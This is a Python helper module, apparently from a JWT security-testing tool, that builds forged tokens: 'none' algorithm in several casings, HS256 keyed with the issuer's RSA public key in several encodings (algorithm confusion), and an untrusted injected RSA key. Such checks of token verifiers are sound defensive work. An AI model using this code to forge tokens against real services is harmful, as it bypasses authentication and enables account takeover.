"""Keys and encodings: pyjwt with an attacker's algorithms (`none` in every casing, HMAC keyed with any
bytes), a foreign RSA key nobody trusts, the issuer's public key from a JWKS, and the segment helpers
the variant builders share."""

from __future__ import annotations

import json
import threading
from collections.abc import Sequence
from typing import Any

import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from jwt.algorithms import HMACAlgorithm, NoneAlgorithm, RSAAlgorithm
from jwt.api_jws import PyJWS
from jwt.utils import base64url_decode, base64url_encode

__all__ = ["NONE_CASINGS", "RawHMAC", "attacker_encode", "foreign_key", "unverified", "public_key_from_jwks",
           "public_key_pem", "public_key_encodings", "b64", "json_segment", "flip", "decode_segment"]


class RawHMAC(HMACAlgorithm):
    """HS256 that takes any bytes as its secret (pyjwt refuses a PEM public key: the confusion attack needs it)."""

    def prepare_key(self, key: str | bytes) -> bytes:  # type: ignore[override]
        return key.encode() if isinstance(key, str) else bytes(key)

    def check_key_length(self, key: bytes) -> str | None:
        return None


NONE_CASINGS = {"alg-none": "none", "alg-none-title": "None", "alg-none-upper": "NONE", "alg-none-mixed": "nOnE"}
_ATTACKER = PyJWS(algorithms=[])
for _alg in NONE_CASINGS.values():
    _ATTACKER.register_algorithm(_alg, NoneAlgorithm())
_ATTACKER.register_algorithm("HS256", RawHMAC(HMACAlgorithm.SHA256))


def attacker_encode(claims: dict[str, Any], key: bytes | None, algorithm: str, headers: dict[str, Any]) -> str:
    payload = json.dumps(claims, separators=(",", ":")).encode()
    return _ATTACKER.encode(payload, key, algorithm=algorithm, headers=headers)  # type: ignore[arg-type]


_FOREIGN: list[rsa.RSAPrivateKey] = []
_FOREIGN_LOCK = threading.Lock()


def foreign_key() -> tuple[rsa.RSAPrivateKey, dict[str, Any]]:
    """An RSA key no issuer knows (made once per process) and its public JWK."""
    with _FOREIGN_LOCK:
        if not _FOREIGN:
            _FOREIGN.append(rsa.generate_private_key(public_exponent=65537, key_size=2048))
        key = _FOREIGN[0]
    jwk = json.loads(RSAAlgorithm.to_jwk(key.public_key()))
    return key, {**jwk, "kid": "lockstep-foreign", "use": "sig", "alg": "RS256"}


# --------------------------------------------------------------------------- helpers

def unverified(token: str | None) -> tuple[dict[str, Any], dict[str, Any]]:
    """The token's header and claims without any verification ({} when it is not a JWS)."""
    if not token:
        return {}, {}
    try:
        header = jwt.get_unverified_header(token)
        claims = jwt.decode(token, options={"verify_signature": False})
    except jwt.PyJWTError:
        return {}, {}
    return dict(header), dict(claims)


def public_key_from_jwks(jwks: dict[str, Any], kid: str | None = None) -> str | None:
    """The PEM (SubjectPublicKeyInfo) of the JWKS key named `kid`, else of its first RSA key."""
    keys = [k for k in jwks.get("keys", []) if isinstance(k, dict) and k.get("kty") == "RSA"]
    chosen = next((k for k in keys if kid is not None and k.get("kid") == kid), keys[0] if keys else None)
    if chosen is None:
        return None
    public = RSAAlgorithm.from_jwk(chosen)
    return public.public_bytes(serialization.Encoding.PEM,  # type: ignore[union-attr]
                               serialization.PublicFormat.SubjectPublicKeyInfo).decode()


def public_key_pem(private_pem: str) -> str:
    key = serialization.load_pem_private_key(private_pem.encode(), password=None)
    return key.public_key().public_bytes(serialization.Encoding.PEM,
                                         serialization.PublicFormat.SubjectPublicKeyInfo).decode()


def b64(data: bytes | str) -> str:
    return base64url_encode(data.encode() if isinstance(data, str) else data).decode()


def json_segment(obj: Any) -> str:
    return b64(json.dumps(obj, separators=(",", ":")))


def flip(segment: str) -> str:
    """Change one character in the middle (the last one may only carry padding bits)."""
    if not segment:
        return "AAAA"
    i = len(segment) // 2
    return segment[:i] + ("A" if segment[i] != "A" else "B") + segment[i + 1:]


def public_key_encodings(pem: str) -> Sequence[tuple[str, bytes]]:
    """The encodings a verifier might feed to HMAC as the secret (jwt_tool tries the same)."""
    key = serialization.load_pem_public_key(pem.encode())
    spki = key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    out = [("hs256-pubkey-pem", spki), ("hs256-pubkey-pem-no-newline", spki.rstrip(b"\n"))]
    if isinstance(key, rsa.RSAPublicKey):
        out.append(("hs256-pubkey-pkcs1", key.public_bytes(serialization.Encoding.PEM,
                                                           serialization.PublicFormat.PKCS1)))
    out.append(("hs256-pubkey-der", key.public_bytes(serialization.Encoding.DER,
                                                     serialization.PublicFormat.SubjectPublicKeyInfo)))
    return out


def decode_segment(segment: str) -> bytes:
    """base64url without padding -> bytes (for tests and reports)."""
    return base64url_decode(segment.encode())

